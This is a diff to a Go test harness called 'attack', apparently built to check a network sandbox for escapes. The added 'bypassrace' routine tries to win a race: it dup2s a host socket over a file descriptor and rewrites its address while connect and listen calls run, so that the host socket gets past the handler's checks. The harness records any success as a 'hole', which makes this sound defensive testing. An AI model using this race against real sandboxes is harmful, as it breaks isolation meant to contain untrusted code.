@@ -21,10 +21,13 @@
 //	attack subreap CMD [ARG...]
 //	attack spawner SOCKET
 //	attack sleep D
+//	attack tcpask HOST:PORT MSG | tcpserve PORT
+//	attack bypassrace -host HOST:PORT -loop PORT [-n N]
 package main
 
 import (
 	"crypto/sha256"
+	"encoding/binary"
 	"encoding/hex"
 	"encoding/json"
 	"errors"
@@ -39,6 +42,7 @@ import (
 	"sort"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"syscall"
 	"time"
 	"unsafe"
@@ -210,6 +214,58 @@ func main() {
 			}
 			c.WriteTo(append([]byte("udp:"), buf[:n]...), from)
 		}
+	case "tcpask":
+		// tcpask HOST:PORT MESSAGE: "LOCAL addr" (the socket's own
+		// address: a bypassed one is the host's), then the answer's
+		// first line.
+		c, err := net.DialTimeout("tcp4", args[0], 3*time.Second)
+		if err != nil {
+			fmt.Fprintln(os.Stderr, "tcpask:", err)
+			os.Exit(1)
+		}
+		fmt.Println("LOCAL", c.LocalAddr())
+		c.SetDeadline(time.Now().Add(3 * time.Second))
+		fmt.Fprintln(c, args[1])
+		buf := make([]byte, 2048)
+		n, err := c.Read(buf)
+		if err != nil {
+			fmt.Fprintln(os.Stderr, "tcpask:", err)
+			os.Exit(1)
+		}
+		fmt.Print("REPLY ", string(buf[:n]))
+		return
+	case "tcpserve":
+		// tcpserve PORT answers each connection "peer=ADDR" (the
+		// client's address as the server sees it).
+		l, err := net.Listen("tcp4", ":"+args[0])
+		if err != nil {
+			fmt.Fprintln(os.Stderr, "tcpserve:", err)
+			os.Exit(1)
+		}
+		fmt.Println("LISTENING")
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				os.Exit(1)
+			}
+			fmt.Fprintf(c, "peer=%s\n", c.RemoteAddr())
+			c.Close()
+		}
+	case "bypassrace":
+		// bypassrace -host HOST:PORT -loop PORT -n N: with a host socket
+		// in hand (a bypassed connection to -host), race connect and
+		// listen calls that the handler lets the kernel finish (unix
+		// sockets) against dup2 of the host socket onto their fd and a
+		// rewrite of their address to 127.0.0.1:-loop. A host listener
+		// there seeing a connection, or a host socket left listening,
+		// is the hole; the test watches the first, this the second.
+		hostAddr := fs.String("host", "", "")
+		loop := fs.Int("loop", 0, "")
+		n := fs.Int("n", 20000, "")
+		fs.Parse(args)
+		for _, h := range bypassRace(*hostAddr, *loop, *n) {
+			hole("%s", h)
+		}
 	case "udpask":
 		// udpask HOST:PORT MESSAGE prints the answer (3 s at most).
 		c, err := net.Dial("udp4", args[0])
@@ -238,6 +294,69 @@ func main() {
 }
 
 func init() { runtime.LockOSThread() }
+
+// bypassRace is the attack of "attack bypassrace".
+func bypassRace(hostAddr string, loop, n int) []string {
+	c, err := net.Dial("tcp4", hostAddr)
+	if err != nil {
+		return []string{"cannot reach -host: " + err.Error()}
+	}
+	raw, _ := c.(*net.TCPConn).File()
+	host := int(raw.Fd())
+	fmt.Println("INFO host socket local", c.LocalAddr())
+	// The address both threads use: a unix path, rewritten to
+	// 127.0.0.1:loop and back, and to AF_UNSPEC.
+	var buf [110]byte
+	un := func() {
+		binary.LittleEndian.PutUint16(buf[0:], unix.AF_UNIX)
+		copy(buf[2:], "/nonexistent-bypassrace\x00")
+	}
+	in := func() {
+		binary.LittleEndian.PutUint16(buf[0:], unix.AF_INET)
+		binary.BigEndian.PutUint16(buf[2:], uint16(loop))
+		copy(buf[4:8], []byte{127, 0, 0, 1})
+	}
+	unspec := func() { binary.LittleEndian.PutUint16(buf[0:], unix.AF_UNSPEC) }
+	un()
+	const slot = 900
+	var stop atomic.Bool
+	go func() {
+		runtime.LockOSThread()
+		for i := 0; !stop.Load(); i++ {
+			switch i % 3 {
+			case 0:
+				in()
+			case 1:
+				unspec()
+			default:
+				un()
+			}
+			if i%2 == 0 {
+				unix.Dup2(host, slot)
+			} else if u, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0); err == nil {
+				unix.Dup2(u, slot)
+				unix.Close(u)
+			}
+		}
+	}()
+	var holes []string
+	for i := 0; i < n; i++ {
+		if u, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0); err == nil {
+			unix.Dup2(u, slot)
+			unix.Close(u)
+		}
+		unix.Syscall(unix.SYS_CONNECT, slot, uintptr(unsafe.Pointer(&buf[0])), 110)
+		unix.Syscall(unix.SYS_LISTEN, slot, 1, 0)
+	}
+	stop.Store(true)
+	// Whatever the race did, the host socket must not listen.
+	if v, err := unix.GetsockoptInt(host, unix.SOL_SOCKET, unix.SO_ACCEPTCONN); err == nil && v == 1 {
+		sa, _ := unix.Getsockname(host)
+		holes = append(holes, fmt.Sprintf("the host socket listens (%v)", sa))
+	}
+	fmt.Println("INFO tries", n)
+	return holes
+}
 
 func withKey(desc string, argv []string) {
 	sess, err := unix.KeyctlJoinSessionKeyring("attack-" + desc)
